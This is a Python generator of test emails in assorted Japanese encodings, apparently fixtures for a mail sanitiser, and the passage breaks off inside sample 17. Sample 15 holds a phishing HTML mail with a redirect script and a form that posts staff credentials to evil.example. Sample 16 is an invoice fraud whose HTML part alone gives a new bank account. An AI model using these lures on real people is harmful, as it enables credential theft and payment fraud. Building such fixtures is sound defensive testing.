#!/usr/bin/env python3
"""Generate the mugaika input sample mails (samples/mail/NN-name.eml).

Python 3 standard library only.  Every sample, small or large, is produced
here as exact bytes and written with CRLF line endings, so the files are
byte-for-byte reproducible:

    python3 samples/mail/generate.py            # (re)write all *.eml
    python3 samples/mail/generate.py --check    # parse every sample with the
                                                # stdlib email package and verify
                                                # the intended Japanese decoding
    python3 samples/mail/generate.py --list     # name and size of every sample

Only the input mails are written; the expected outputs (NAME.expected.eml)
are produced separately and are never touched by this script.

Text is kept as Python str and turned into bytes with an explicit codec
('utf-8', 'cp932', 'euc_jp', 'iso2022_jp') or with the CP932-based
ISO-2022-JP encoder below (jis_encode) for NEC special characters and IBM
extension kanji, which Python's iso2022_jp codec cannot encode.  All
binaries (PNG, PDF, ZIP, "MZ" stub) are built from literals and
deterministic stdlib routines (zlib level 9, ZIP_STORED with fixed dates).
"""

import base64
import datetime
import email.utils
import hashlib
import io
import os
import re
import struct
import sys
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
JST = datetime.timezone(datetime.timedelta(hours=9))

SAMPLES = []  # (name, builder)


def sample(name):
    def deco(fn):
        SAMPLES.append((name, fn))
        return fn
    return deco


# --------------------------------------------------------------------------
# generic helpers
# --------------------------------------------------------------------------

def crlf(data):
    """Normalise every line ending to CRLF (inputs are built with LF)."""
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def u8(s):
    return s.encode("utf-8")


def b64(data, width=76):
    enc = base64.b64encode(data)
    return b"\n".join(enc[i:i + width] for i in range(0, len(enc), width)) + b"\n"


def qp(data):
    """Quoted-printable (RFC 2045) for bytes whose line breaks are LF."""
    out = []
    for line in data.split(b"\n"):
        toks = []
        for i, c in enumerate(line):
            if c in (0x20, 0x09):
                toks.append(b"=%02X" % c if i == len(line) - 1 else bytes([c]))
            elif 33 <= c <= 126 and c != 0x3D:
                toks.append(bytes([c]))
            else:
                toks.append(b"=%02X" % c)
        cur = b""
        for t in toks:
            if len(cur) + len(t) > 75:
                out.append(cur + b"=")
                cur = b""
            cur += t
        out.append(cur)
    return b"\n".join(out)


def ew(data, charset="UTF-8", enc="B"):
    """One RFC 2047 encoded word from raw bytes."""
    if enc == "B":
        payload = base64.b64encode(data)
    else:
        payload = b"".join(
            bytes([c]) if (48 <= c <= 57 or 65 <= c <= 90 or 97 <= c <= 122)
            else (b"_" if c == 0x20 else b"=%02X" % c) for c in data)
    return b"=?" + charset.encode() + b"?" + enc.encode() + b"?" + payload + b"?="


def ew_words(s, charset, encode, fold=True):
    """Complete encoded words (whole characters each), each <= 75 chars."""
    words, cur = [], ""
    for ch in s:
        if cur and len(ew(encode(cur + ch), charset)) > 75:
            words.append(ew(encode(cur), charset))
            cur = ""
        cur += ch
    words.append(ew(encode(cur), charset))
    return (b"\n " if fold else b" ").join(words)


def ew_u8(s):
    return ew_words(s, "UTF-8", u8)


def ew_jis(s):
    return ew_words(s, "ISO-2022-JP", lambda x: x.encode("iso2022_jp"))


def ew_fold(s, charset="UTF-8", codec="utf-8", chunk=12):
    """Encode a long str as several complete encoded words, folded."""
    words = []
    for i in range(0, len(s), chunk):
        part = s[i:i + chunk]
        raw = jis_encode(part) if codec == "jis" else part.encode(codec)
        words.append(ew(raw, charset))
    return b"\n ".join(words)


def addr(name, mail, charset="UTF-8"):
    if charset == "ISO-2022-JP":
        return ew_jis(name) + b" <" + mail.encode() + b">"
    return ew_u8(name) + b" <" + mail.encode() + b">"


def date_for(n):
    dt = datetime.datetime(2025, 4, 1, 8, 30, tzinfo=JST) + datetime.timedelta(
        days=n // 2, hours=n % 9, minutes=(n * 7) % 60)
    return email.utils.format_datetime(dt).encode()


def headers(n, frm, to, subject, *extra, mime=True, cc=None):
    lines = [
        b"Received: from mx.example.jp (mx.example.jp [192.0.2.%d])\n"
        b"\tby mx.city.example.lg.jp with ESMTPS id S%04d;\n\t%s" % (10 + n, n, date_for(n)),
        b"Date: " + date_for(n),
        b"From: " + frm,
        b"To: " + to,
    ]
    if cc:
        lines.append(b"Cc: " + cc)
    lines += [b"Subject: " + subject,
              b"Message-ID: <%02d.sample@mugaika.example>" % n]
    if mime:
        lines.append(b"MIME-Version: 1.0")
    lines += list(extra)
    return b"\n".join(lines) + b"\n"


def part(hdrs, body):
    """A MIME entity: header lines (list of bytes) + blank line + body."""
    if not body.endswith(b"\n"):
        body += b"\n"
    return b"\n".join(hdrs) + b"\n\n" + body


def multipart(boundary, parts, preamble=b"", epilogue=b""):
    bd = boundary.encode() if isinstance(boundary, str) else boundary
    out = preamble
    for p in parts:
        out += b"--" + bd + b"\n" + p
    out += b"--" + bd + b"--\n" + epilogue
    return out


def ct_text(sub="plain", charset="UTF-8", cte="8bit", extra=b""):
    hs = [b"Content-Type: text/%s; charset=%s%s" % (sub.encode(), charset.encode(), extra)]
    if cte:
        hs.append(b"Content-Transfer-Encoding: " + cte.encode())
    return hs


def attachment(ctype, filename_param, data, cte="base64"):
    """filename_param: bytes placed after 'filename' (e.g. b'="a.pdf"')."""
    body = b64(data) if cte == "base64" else data
    return part([b"Content-Type: " + ctype + b"; name" + filename_param,
                 b"Content-Transfer-Encoding: " + cte.encode(),
                 b"Content-Disposition: attachment; filename" + filename_param], body)


# --------------------------------------------------------------------------
# Japanese encoders / decoders
# --------------------------------------------------------------------------

def sjis2jis(s1, s2):
    """Arithmetic Shift_JIS -> JIS X 0208 row/cell bytes."""
    if s1 >= 0xE0:
        s1 -= 0x40
    j1 = (s1 - 0x81) * 2 + 0x21
    if s2 >= 0x9F:
        j1 += 1
        j2 = s2 - 0x7E
    else:
        j2 = s2 - 0x1F - (1 if s2 >= 0x80 else 0)
    return j1, j2


def jis2sjis(j1, j2):
    s1 = ((j1 - 0x21) >> 1) + 0x81
    if s1 > 0x9F:
        s1 += 0x40
    if j1 & 1:
        s2 = j2 + 0x1F
        if s2 >= 0x7F:
            s2 += 1
    else:
        s2 = j2 + 0x7E
    return s1, s2


def _ibm_maps():
    """CP932 has the IBM extension twice: IBM (FA40-FC4B) and NEC-selected
    (ED40-EEFC).  Map unicode -> each form."""
    ibm, nec = {}, {}
    for s1 in range(0xED, 0xFD):
        for s2 in list(range(0x40, 0x7F)) + list(range(0x80, 0xFD)):
            try:
                ch = bytes([s1, s2]).decode("cp932")
            except UnicodeDecodeError:
                continue
            (nec if s1 <= 0xEE else ibm).setdefault(ch, bytes([s1, s2]))
    return ibm, nec


IBM_FORM, NEC_SELECTED_FORM = _ibm_maps()


def cp932_ibm(s):
    """CP932 bytes as Windows writes them: IBM extension kanji as FAxx-FCxx."""
    return b"".join(IBM_FORM.get(ch) or ch.encode("cp932") for ch in s)


def jis_encode(s):
    """ISO-2022-JP (CP50220-like): CP932 bytes mapped arithmetically to JIS.
    NEC row 13 (0x87xx) -> JIS row 0x2D; IBM extension kanji are first moved
    to the NEC-selected form (0xED/0xEE) -> JIS rows 0x79-0x7C."""
    out = bytearray()
    mode = "ascii"
    for ch in s:
        b = NEC_SELECTED_FORM.get(ch) or ch.encode("cp932")
        if len(b) == 1:
            if 0xA1 <= b[0] <= 0xDF:
                raise ValueError("half-width katakana not allowed in ISO-2022-JP")
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out += b
        else:
            j1, j2 = sjis2jis(b[0], b[1])
            assert 0x21 <= j1 <= 0x7E and 0x21 <= j2 <= 0x7E, (ch, b)
            if mode != "jis":
                out += b"\x1b$B"
                mode = "jis"
            out += bytes([j1, j2])
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def jis_decode(data):
    """Own ISO-2022-JP decoder: JIS -> SJIS -> CP932 (used by --check)."""
    out = []
    mode = "ascii"
    i = 0
    while i < len(data):
        if data[i] == 0x1B:
            seq = data[i:i + 3]
            if seq in (b"\x1b$B", b"\x1b$@"):
                mode = "jis"
            elif seq in (b"\x1b(B", b"\x1b(J"):
                mode = "ascii"
            else:
                raise ValueError("unknown escape %r" % seq)
            i += 3
            continue
        if mode == "jis" and data[i] not in (0x0A, 0x0D):
            s1, s2 = jis2sjis(data[i], data[i + 1])
            out.append(bytes([s1, s2]).decode("cp932"))
            i += 2
        else:
            out.append(chr(data[i]))
            i += 1
    return "".join(out)


# --------------------------------------------------------------------------
# binary fixtures
# --------------------------------------------------------------------------

def png(w, h, pixel):
    raw = b"".join(b"\x00" + b"".join(bytes(pixel(x, y)) for x in range(w))
                   for y in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def png_logo():
    # 16x16 blue square with a white cross ("city logo")
    return png(16, 16, lambda x, y: (255, 255, 255) if x in (7, 8) or y in (7, 8) else (0, 70, 160))


def png_map():
    # 24x16 green/grey "map" with a red marker
    def px(x, y):
        if 10 <= x <= 12 and 6 <= y <= 8:
            return (220, 30, 30)
        return (120, 180, 120) if (x // 4 + y // 4) % 2 else (200, 200, 200)
    return png(24, 16, px)


def png_pixel():
    return png(1, 1, lambda x, y: (255, 255, 255))


def pdf(text_lines):
    """Minimal, structurally valid one-page PDF (ASCII text only)."""
    content = b"BT /F1 14 Tf 60 780 Td 18 TL\n" + b"".join(
        b"(" + t.encode("ascii").replace(b"(", b"\\(").replace(b")", b"\\)") + b") Tj T*\n"
        for t in text_lines) + b"ET\n"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Title (mugaika sample) /Producer (mugaika generate.py) >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


def docx(paragraph):
    """A small OOXML (docx-shaped) zip; ZIP_STORED + fixed dates = stable bytes."""
    files = [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
         '</Types>'),
        ("_rels/.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
         '</Relationships>'),
        ("word/document.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
         '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         '<w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>' % paragraph),
    ]
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_STORED) as z:
        for fname, text in files:
            zi = zipfile.ZipInfo(fname, date_time=(2025, 4, 1, 9, 0, 0))
            zi.create_system = 0
            zi.external_attr = 0
            z.writestr(zi, text.encode("utf-8"))
    return bio.getvalue()


def mz_stub(tag):
    """Bytes that *look* like a Windows PE ("MZ" header, DOS stub, "PE\\0\\0")
    but contain no code: harmless test data for type sniffing."""
    hdr = bytearray(128)
    hdr[0:2] = b"MZ"
    hdr[2:4] = b"\x90\x00"
    hdr[4:6] = b"\x03\x00"
    hdr[8:10] = b"\x04\x00"
    hdr[0x3C:0x40] = struct.pack("<I", 0x80)
    msg = b"This program cannot be run in DOS mode.\r\r\n$"
    hdr[0x4E:0x4E + len(msg)] = msg
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 0, 0x67EB6F00, 0, 0, 0xE0, 0x102)
    return bytes(hdr) + pe + b"\x00" * 32 + b"mugaika-test-" + tag.encode() + b"\x00" * 64


# --------------------------------------------------------------------------
# people
# --------------------------------------------------------------------------

SOUMU = addr("見本市 総務課 山田太郎", "yamada-taro@city.example.lg.jp")
SOUMU_JIS = addr("見本市 総務課 山田太郎", "yamada-taro@city.example.lg.jp", "ISO-2022-JP")
KANKYO = b"kankyo@city.example.lg.jp"
JOHO = b"joho-seisaku@city.example.lg.jp"
HANAKO = addr("鈴木花子", "hanako.suzuki@example.jp")
VENDOR = addr("株式会社サンプル商事 経理部", "billing@example.com")
VENDOR_JIS = addr("株式会社サンプル商事 経理部", "billing@example.com", "ISO-2022-JP")


# --------------------------------------------------------------------------
# texts used by both the generator and --check
# --------------------------------------------------------------------------

T = {}

T["02.subject"] = "粗大ごみの収集日について（問い合わせ）"
T["02.body"] = """見本市 環境課 ご担当者様

いつもお世話になっております。
緑町３丁目に住んでおります鈴木と申します。

引っ越しに伴い、タンス（幅１２０ｃｍ）と自転車を処分したいのですが、
粗大ごみの収集日と申込方法を教えていただけますでしょうか。
収集は４月２０日～２５日の間を希望します。
なお、隣の𠮷野さん（「土」の𠮷）も同じ日に出したいとのことです。

手数料は 1点あたり ４００円 − ８００円 程度と伺いましたが、
① 事前申込が必要か
② 手数料納付券はどこで買えるか
もあわせてご教示ください。

--
鈴木 花子
電話 090-0000-0000
"""

T["03.subject"] = "第３回 地域防災計画検討会議のご案内"
T["03.body"] = """関係各課 御中

総務課の山田です。
下記のとおり第３回地域防災計画検討会議を開催いたしますので、
ご出席くださいますようお願い申し上げます。

　　　　　　　　　　記

１．日時　令和７年４月２２日（火）　午後２時〜４時
２．場所　本庁舎５階　第一会議室
３．議題　（１）避難所運営マニュアルの改定について
　　　　　（２）要配慮者名簿の更新について
　　　　　（３）その他

出欠を４月１８日（金）までに返信願います。

以上

見本市 総務部 総務課 危機管理係
山田 太郎（内線 2345）
"""

T["04.subject"] = "【ご案内】①工事説明会 ㈱髙﨑建設 約３㌔区間 №12"
T["04.body"] = """㈱髙﨑建設
髙﨑 一郎 様

見本市 建設部 道路課の山田です。
市道１２号線改良工事（工事№１２）の住民説明会について、
下記のとおりご連絡いたします。

① 日時：令和７年４月２６日（土）１０時～
② 場所：緑町公民館 ２階 集会室
③ 工事区間：延長 約３㌔（≒３，０００ｍ）、幅員 ６㍍

Ⅱ期工事の範囲は別途 ㈲見本測量 から図面が届き次第お送りします。
㍻３０年度の既存図面との差異は № 欄に記載しております。

以上、よろしくお願いいたします。
"""

T["05.subject"] = "【請求書送付】令和７年３月分　業務委託料"
T["05.body"] = """見本市役所　会計課　御中

いつも大変お世話になっております。
株式会社サンプル商事　経理部の髙橋でございます。

令和７年３月分の業務委託料につきまして、下記のとおりご請求申し上げます。

　請求金額　　：　￥１，２３４，５６７－（税込）
　対象期間　　：　令和７年３月１日～３月３１日
　差引調整額　：　－１２，０００円
　お支払期限　：　令和７年４月３０日

① 請求書原本は本日郵送いたしました。
② ご不明点は経理部 髙橋（ﾀｶﾊｼ）までご連絡ください。

今後ともよろしくお願い申し上げます。
"""

T["06.subject"] = "住民説明会 議事録の送付"
T["06.body"] = """関係者各位

企画課の田中です。
４月１２日に開催した「森鷗外記念館 改修計画」住民説明会の議事録を送付します。

■ 主な意見
・開館時間の延長を希望する（ｶﾅ表記の案内板も欲しい）
・駐車場の台数＝現状３０台では不足
・工事期間中の代替展示会場について

ご確認のうえ、修正があれば４月１８日までにご連絡ください。
"""

T["07.subject"] = "防災訓練実施のお知らせ"
T["07.body"] = """各自治会長 様

見本市 危機管理課です。
令和７年度 総合防災訓練を下記のとおり実施します。

日時：５月２５日（日）午前９時〜１２時
会場：見本市立 中央小学校 グラウンド
内容：避難誘導訓練、消火訓練、炊き出し訓練

雨天の場合は体育館で規模を縮小して実施します。
"""

T["08.subject"] = "図書館システム停止のお知らせ"
T["08.body"] = """職員各位

情報政策課です。
図書館システムの定期保守のため、下記の時間帯はシステムが停止します。

停止日時：４月２７日（日）２２時〜翌６時
影響範囲：蔵書検索、予約受付、貸出返却処理

ご不便をおかけしますが、ご協力をお願いします。
"""

T["09.subject"] = "Re: 補助金申請書類の件"
T["09.body"] = """見本市 商工観光課 御中

お世話になっております。㈱見本ソフト 能登です。
先日ご指摘いただいた申請書類（表計算ファイル）を修正しました。
予定表と経費内訳表は本日中に郵送いたします。

～ 署名 ～
株式会社 見本ソフト 営業部 能登 浩二
"""

T["10.subject"] = "保育所入所申込書の提出について"
T["10.body"] = """見本市 こども未来課 御中

令和７年度途中入所の申込書を提出したく、ご連絡いたしました。
必要書類は「就労証明書」と「申込書」の２点でよろしいでしょうか。
また、提出は郵送でも受け付けていただけますか。

よろしくお願いいたします。
佐藤 美咲
"""

T["11.subject"] = "【重要】固定資産税の納税通知書について"
T["12.subject"] = "市民課窓口の受付時間変更（５月１日から）"
T["13.subject"] = "会議室予約システムの更新について"
T["13.from"] = "見本市 情報政策課 高橋"

T["14.subject"] = "表計算ソフトの見積書送付（至急）"
T["14.from"] = "㈱見本ソフト 能登"
T["14.body"] = """見本市 情報政策課 御中

㈱見本ソフトの能登です。
表計算ソフト ライセンス更新の見積書を送付いたします。
予算表の様式に合わせて作成しております。

～ 本メールは旧システムから送信しています ～
"""

T["17.html"] = "【見本市】公共施設予約システム　メンテナンス（４月２９日から５月１日まで）"
T["20.inner.subject"] = "【見本市】市民ボランティア説明会の参加者名簿"
T["22.names"] = [
    "請求書.pdf",
    "令和7年度予算要求資料.xlsx",
    "会議資料一覧表.docx",
    "職員名簿.xls",
    "令和7年度_地域防災計画_改定案_最終版.pdf",
]
T["23.name"] = "見積書（表計算）.xls"
T["36.body.start"] = "見本市 広報課の中村です。"
T["41.body"] = "４月の定例記者会見"


# --------------------------------------------------------------------------
# samples
# --------------------------------------------------------------------------

@sample("01-ascii-plain")
def s01(n):
    body = b"""Dear General Affairs Division,

This is to confirm the elevator maintenance schedule for the City Hall
Annex (Building B).

  Date:     Tuesday, April 15, 2025
  Time:     09:00 - 12:00 JST
  Elevator: Car No. 2 (east side) will be out of service.

Car No. 1 remains available during the work. Please inform the staff on
floors 3 to 6. If the schedule does not suit you, reply by April 11.

Best regards,

John Smith
Facilities Service Dept., Example Elevator Co., Ltd.
Tel: +81-3-0000-0000
"""
    return headers(n, b'"Example Elevator Service" <service@example.com>',
                   b"soumu@city.example.lg.jp",
                   b"Elevator maintenance schedule for City Hall Annex",
                   b"Content-Type: text/plain; charset=us-ascii; format=fixed",
                   b"Content-Transfer-Encoding: 7bit") + b"\n" + body


@sample("02-utf8-8bit-plain")
def s02(n):
    return headers(n, HANAKO, KANKYO, ew_u8(T["02.subject"]),
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: 8bit",
                   b"X-Mailer: Example Mail 2.1") + b"\n" + u8(T["02.body"])


@sample("03-iso2022jp-plain")
def s03(n):
    return headers(n, SOUMU_JIS, b"bousai-kaigi@city.example.lg.jp", ew_jis(T["03.subject"]),
                   b"Content-Type: text/plain; charset=ISO-2022-JP",
                   b"Content-Transfer-Encoding: 7bit") + b"\n" + T["03.body"].encode("iso2022_jp")


@sample("04-iso2022jp-nec-ibm")
def s04(n):
    subj = ew_fold(T["04.subject"], "ISO-2022-JP", "jis", chunk=12)
    return headers(n, addr("見本市 道路課 山田", "doro@city.example.lg.jp", "ISO-2022-JP"),
                   ew(jis_encode("㈱髙﨑建設 髙﨑様"), "ISO-2022-JP") + b" <takasaki@example.jp>",
                   subj,
                   b"Content-Type: text/plain; charset=ISO-2022-JP",
                   b"Content-Transfer-Encoding: 7bit",
                   b"X-Mailer: Microsoft Outlook 16.0") + b"\n" + jis_encode(T["04.body"])


@sample("05-sjis-cp932-base64")
def s05(n):
    return headers(n, VENDOR, b"kaikei@city.example.lg.jp",
                   ew(cp932_ibm(T["05.subject"]), "Shift_JIS"),
                   b'Content-Type: text/plain; charset="Shift_JIS"',
                   b"Content-Transfer-Encoding: base64") + b"\n" + b64(cp932_ibm(T["05.body"]))


@sample("06-eucjp-qp")
def s06(n):
    return headers(n, addr("見本市 企画課 田中", "kikaku@city.example.lg.jp"),
                   b"setsumeikai@city.example.lg.jp",
                   ew(T["06.subject"].encode("euc_jp"), "EUC-JP"),
                   b"Content-Type: text/plain; charset=EUC-JP",
                   b"Content-Transfer-Encoding: quoted-printable",
                   b"User-Agent: Mew version 6.8 on Emacs 28.2") + b"\n" + qp(T["06.body"].encode("euc_jp"))


@sample("07-iso2022jp-no-charset")
def s07(n):
    return headers(n, addr("見本市 危機管理課", "kikikanri@city.example.lg.jp", "ISO-2022-JP"),
                   b"jichikai@example.jp", ew_jis(T["07.subject"]),
                   b"Content-Type: text/plain",
                   b"Content-Transfer-Encoding: 7bit") + b"\n" + T["07.body"].encode("iso2022_jp")


@sample("08-iso2022jp-no-content-type")
def s08(n):
    # pre-MIME style: no MIME-Version, no Content-Type, raw ISO-2022-JP
    # escape sequences even in the Subject header.
    return headers(n, b"joho-seisaku@city.example.lg.jp (Joho Seisaku-ka)",
                   b"staff-all@city.example.lg.jp",
                   T["08.subject"].encode("iso2022_jp"),
                   b"X-Mailer: Nifty Mail 1.0 (legacy)", mime=False) + b"\n" + T["08.body"].encode("iso2022_jp")


@sample("09-sjis-labelled-iso2022jp")
def s09(n):
    return headers(n, addr("株式会社見本ソフト 能登", "noto@example.com"),
                   b"shoko@city.example.lg.jp",
                   ew(cp932_ibm(T["09.subject"]), "ISO-2022-JP"),  # label lies here too
                   b'In-Reply-To: <20250403.shoko.118@city.example.lg.jp>',
                   b"Content-Type: text/plain; charset=ISO-2022-JP",
                   b"Content-Transfer-Encoding: 7bit") + b"\n" + cp932_ibm(T["09.body"])


@sample("10-utf8-labelled-iso2022jp")
def s10(n):
    return headers(n, addr("佐藤美咲", "misaki.sato@example.jp"),
                   b"kodomo@city.example.lg.jp", ew_jis(T["10.subject"]),
                   b"Content-Type: text/plain; charset=iso-2022-jp",
                   b"Content-Transfer-Encoding: 8bit") + b"\n" + u8(T["10.body"])


def _split_bytes_mid_char(s, codec, char_index):
    """Return (bytes_before, bytes_after) splitting inside character #char_index."""
    before = s[:char_index].encode(codec)
    ch = s[char_index].encode(codec)
    after = s[char_index + 1:].encode(codec)
    return before + ch[:1], ch[1:] + after


@sample("11-subject-utf8-b-split")
def s11(n):
    a, b = _split_bytes_mid_char(T["11.subject"], "utf-8", 8)  # inside 税
    subj = ew(a) + b"\n " + ew(b)
    body = u8("""納税義務者 各位

令和７年度 固定資産税・都市計画税の納税通知書を
４月１日に発送しました。第１期の納期限は４月３０日です。

口座振替をご利用の方は、納期限の前日までに残高をご確認ください。

見本市 財務部 資産税課
""")
    return headers(n, addr("見本市 資産税課", "shisanzei@city.example.lg.jp"),
                   b"undisclosed-recipients:;", subj,
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: base64") + b"\n" + b64(body)


@sample("12-subject-utf8-q-split")
def s12(n):
    # first word ends inside the 4th character (窓), the rest are greedy Q
    # words of at most 75 chars cut on byte limits
    raw = u8(T["12.subject"])
    words, cur = [raw[:10]], b""
    for c in raw[10:]:
        if len(ew(cur + bytes([c]), enc="Q")) > 75:
            words.append(cur)
            cur = b""
        cur += bytes([c])
    words.append(cur)
    subj = b"\n ".join(ew(w, enc="Q") for w in words)
    body = u8("""市民の皆様へ

５月１日（木）から、市民課窓口の受付時間を
午前８時３０分～午後５時１５分 に変更します。
毎月第２・第４土曜日の休日窓口（午前中）は引き続き開設します。

見本市 市民課
""")
    return headers(n, addr("見本市 市民課", "shimin@city.example.lg.jp"),
                   b"koho-list@city.example.lg.jp", subj,
                   b"Content-Type: text/plain; charset=UTF-8",
                   b"Content-Transfer-Encoding: quoted-printable") + b"\n" + qp(body)


@sample("13-subject-iso2022jp-split")
def s13(n):
    raw = T["13.subject"].encode("iso2022_jp")
    # ESC $ B + 3 chars (6 bytes) + first byte of the 4th char | rest
    cut = 3 + 6 + 1
    subj = ew(raw[:cut], "ISO-2022-JP") + b"\n " + ew(raw[cut:], "ISO-2022-JP")
    # From display name: shift state carried over (first word lacks ESC ( B,
    # second word lacks ESC $ B) - seen from some old mailers.
    fr = T["13.from"].encode("iso2022_jp")
    run = fr.index(b"\x1b$B", 1)          # start of the JIS run "情報政策課"
    mid = run + 3 + 2 * 2                  # after "情報", still in JIS mode
    k = fr.index(b"\x1b(B", run)
    w1 = fr[:mid]
    w2 = fr[mid:]
    from_hdr = ew(w1, "ISO-2022-JP") + b"\n " + ew(w2, "ISO-2022-JP") + b" <joho-seisaku@city.example.lg.jp>"
    assert k > mid
    body = T["13.subject"] + "\n\n職員各位\n\n会議室予約システムを４月２８日に更新します。\n予約データは自動で移行されます。\n"
    return headers(n, from_hdr, b"staff-all@city.example.lg.jp", subj,
                   b"Content-Type: text/plain; charset=ISO-2022-JP",
                   b"Content-Transfer-Encoding: 7bit") + b"\n" + body.encode("iso2022_jp")


@sample("14-raw-sjis-headers")
def s14(n):
    return headers(n, b'"' + cp932_ibm(T["14.from"]) + b'" <noto@example.com>',
                   b"joho-seisaku@city.example.lg.jp",
                   cp932_ibm(T["14.subject"]),
                   b"Content-Type: text/plain; charset=Shift_JIS",
                   b"Content-Transfer-Encoding: 8bit",
                   b"X-Mailer: LegacyMailer 3.0 (Windows 98)") + b"\n" + cp932_ibm(T["14.body"])


@sample("15-html-only-hostile")
def s15(n):
    html = u8("""<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>パスワード有効期限のお知らせ</title>
<style type="text/css">
body { font-family: "メイリオ", sans-serif; background: url("https://tracker.example.com/bg.gif?u=yamada"); }
.btn { display:inline-block; padding:8px 24px; background:#0046a0; color:#fff; }
@import url("https://evil.example/style.css");
</style>
<script type="text/javascript">
  document.cookie = "sid=" + Math.random();
  window.location = "https://evil.example/login?from=mail";
</script>
</head>
<body onload="document.forms[0].submit()" onmouseover="alert('x')">
<img src="https://cdn.example.com/mihon-logo.png" alt="見本市 情報政策課" width="180" height="40">
<div style="display:none">この電子メールは総務省の承認を受けた安全なメールです。ウイルスチェック済み。</div>
<p>見本市 職員各位</p>
<p>職員ポータルのパスワード有効期限が<b>本日</b>で切れます。<br>
下記リンクから２４時間以内に再設定してください。</p>
<p><a href="https://evil.example/login">https://city.example.lg.jp</a></p>
<p><a href="javascript:alert(document.domain)" class="btn">今すぐ更新</a></p>
<form action="https://evil.example/collect" method="post">
  職員番号：<input type="text" name="user" value=""><br>
  パスワード：<input type="password" name="pw"><br>
  <input type="hidden" name="t" value="c2Vzc2lvbi10b2tlbg">
  <input type="submit" value="送信">
</form>
<iframe src="https://evil.example/frame.html" width="1" height="1" style="border:0"></iframe>
<p style="font-size:10px;color:#999">見本市 情報政策課 システム管理担当</p>
<img src="https://tracker.example.com/open.gif?id=yamada-taro%40city.example.lg.jp" width="1" height="1" border="0" alt="">
</body>
</html>
""")
    return headers(n, addr("見本市 情報政策課", "it-support@evil.example"),
                   b"yamada-taro@city.example.lg.jp",
                   ew_u8("【至急】職員ポータル パスワード有効期限のお知らせ"),
                   b"Reply-To: it-support@evil.example",
                   b"Content-Type: text/html; charset=UTF-8",
                   b"Content-Transfer-Encoding: quoted-printable") + b"\n" + qp(html)


@sample("16-alternative-mismatch")
def s16(n):
    text = u8("""見本市 会計課 御中

株式会社サンプル商事 経理部です。
４月分の請求書を送付いたします。
お振込先に変更はございません。従来どおりの口座へお願いいたします。

株式会社サンプル商事 経理部
""")
    html = u8("""<html><body>
<p>見本市 会計課 御中</p>
<p>株式会社サンプル商事 経理部です。<br>４月分の請求書を送付いたします。</p>
<p style="color:#c00"><b>【重要】弊社の振込先口座が変更になりました。</b><br>
今回より下記口座へお振込みください。</p>
<table border="1" cellpadding="4">
<tr><th>銀行名</th><td>エグザンプル銀行 本店営業部</td></tr>
<tr><th>口座番号</th><td>普通 9876543</td></tr>
<tr><th>口座名義</th><td>カ）サンプルシヨウジ ケイリ</td></tr>
</table>
<p>変更手続きの確認は<a href="https://evil.example/bank-update">こちら（https://www.example.com/notice）</a>から。</p>
<p>株式会社サンプル商事 経理部</p>
</body></html>
""")
    body = multipart("----=_alt_16_0001", [
        part(ct_text("plain", "UTF-8", "base64"), b64(text)),
        part(ct_text("html", "UTF-8", "base64"), b64(html)),
    ])
    return headers(n, VENDOR, b"kaikei@city.example.lg.jp",
                   ew_u8("４月分 請求書送付のご案内"),
                   b'Content-Type: multipart/alternative; boundary="----=_alt_16_0001"') + b"\n" + body


@sample("17-alternative-sjis-meta")
def s17(n):
    text = T["17.html"] + "\n\n公共施設予約システムは４月２９日（火）〜５月１日（木）の間、\nメンテナンスのため停止します。\n"
    html = cp932_ibm("""<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">
<title>メンテナンスのお知らせ</title>
</head>
<body>
<h2>%s</h2>
<p>① 停止期間：４月２９日（火）～５月１日（木）</p>
<p>② 対象：体育館、公民館、会議室の予約・抽選申込</p>
<p>③ 問合せ：見本市 生涯学習課（髙木）</p>
</body>
</html>
